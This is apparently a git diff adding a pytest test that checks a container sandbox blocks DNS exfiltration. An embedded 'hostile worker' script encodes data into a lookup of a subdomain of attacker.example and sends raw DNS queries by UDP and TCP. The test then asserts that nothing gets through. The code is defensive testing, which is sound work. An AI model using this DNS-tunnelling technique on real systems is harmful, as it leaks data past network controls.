@@ -10,6 +10,7 @@ run folder and no container log.
 from __future__ import annotations
 
 import contextlib
+import json
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -177,3 +178,84 @@ def test_claude_through_the_gateway(
     for path in run.root.rglob("*"):
         if path.is_file():
             assert SECRET not in path.read_text(errors="replace"), path
+
+
+# A name server of our own that only notes what reaches it (UDP and TCP on port 53 of its own address).
+RESOLVER = (
+    "import socket, threading\n"
+    "def udp():\n"
+    "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 53))\n"
+    "    while True:\n"
+    "        data, peer = s.recvfrom(4096); print('got udp', peer[0], data.hex(), flush=True)\n"
+    "threading.Thread(target=udp, daemon=True).start()\n"
+    "t = socket.socket(); t.bind(('0.0.0.0', 53)); t.listen(8)\n"
+    "while True:\n"
+    "    c, peer = t.accept(); print('got tcp', peer[0], flush=True); c.close()\n"
+)
+# The hostile worker: secret data out as a lookup, through the system resolver (Docker's 127.0.0.11, which
+# would forward it to the machine's resolvers), then straight at a name server on the allowlist, by UDP and TCP.
+EXFIL = (
+    "import socket, struct, sys\n"
+    "data, resolver = sys.argv[1], sys.argv[2]\n"
+    "name = data + '.attacker.example'\n"
+    "try:\n"
+    "    socket.getaddrinfo(name, 80, socket.AF_INET); print('lookup resolved')\n"
+    "except socket.gaierror as exc:\n"
+    "    print('lookup failed', exc.errno)\n"
+    "query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
+    "query += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)\n"
+    "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5); u.sendto(query, (resolver, 53))\n"
+    "try:\n"
+    "    reply = u.recv(4096); print('udp answer rcode', reply[3] & 15)\n"
+    "except OSError as exc:\n"
+    "    print('udp', type(exc).__name__)\n"
+    "try:\n"
+    "    socket.create_connection((resolver, 53), 5); print('tcp connected')\n"
+    "except TimeoutError:\n"
+    "    print('tcp timed out')\n"
+    "except OSError as exc:\n"
+    "    print('tcp refused', exc.errno)\n"
+)
+
+
+@pytest.mark.usefixtures("isolated_env")
+def test_a_dns_lookup_carries_nothing_out(
+    net: Net, names: list[str], workdir: Path, engine: docker.DockerClient, image: str
+) -> None:
+    """Hostile: a worker spells data into a name to look up. Even with a name server's address on the
+    allowlist, nothing reaches it (by UDP or TCP): the lookup fails in the container, where orch's own
+    responder answers only the allowlist's names, and the refused name is in the run's logs/dns.log."""
+    resolver_name = unique("orch-test-dns")
+    resolver = engine.containers.run(
+        image, ["python3", "-c", RESOLVER], name=resolver_name, detach=True, network=net.network,
+        user="1000:1000", read_only=True, cap_drop=["ALL"], security_opt=["no-new-privileges:true"],
+        sysctls={"net.ipv4.ip_unprivileged_port_start": "0"}, labels={LABEL_MANAGED: "test"},
+    )  # fmt: skip
+    try:
+        resolver.reload()
+        resolver_ip = str(resolver.attrs["NetworkSettings"]["Networks"][net.network]["IPAddress"])
+        control = ["python3", "-c", f"import socket; socket.socket(2, 2).sendto(b'control', ('{resolver_ip}', 53))"]
+        wait_until(
+            lambda: resolver.exec_run(control)[0] == 0 and b"got udp" in resolver.logs(), 30, "the name server to note"
+        )
+        name = new_name(names, "eg")
+        result = orch(
+            "up", name, "--agent", "scripted", "--workdir", workdir, "--network", net.network,
+            "--allow", net.allowed, "--allow", resolver_ip,
+        )  # fmt: skip
+        assert result.exit_code == 0, result.output
+        run = RunFolder.for_name(name)
+        (report,) = [e["data"] for e in events(run) if e["event"] == Event.EGRESS]
+        assert isinstance(report, dict) and set(report["dns"]) == {net.allowed, net.model}, report  # + the gateway's
+        assert str(report["dns_selftest"]).startswith(f"refused {egress.DNS_PROBE}"), report
+        before = resolver.logs()
+        code, out = DockerSandbox().run_as_user(run.info(), ["python3", "-c", EXFIL, "6f72636873656372", resolver_ip])
+        assert code == 0, out
+        assert "lookup failed" in out and "udp answer rcode 3" in out and "tcp refused" in out, out
+        assert _reach(run, [f"http://{net.allowed}:{PORT}/"]) == {f"http://{net.allowed}:{PORT}/": True}  # by name
+        assert orch("kill", name).exit_code == 0
+        assert resolver.logs() == before  # not one packet reached the name server
+        refused = [json.loads(line) for line in (run.logs_dir / "dns.log").read_text().splitlines()]
+        assert {"refused": "6f72636873656372.attacker.example", "type": "A"} in refused
+    finally:
+        resolver.remove(force=True)
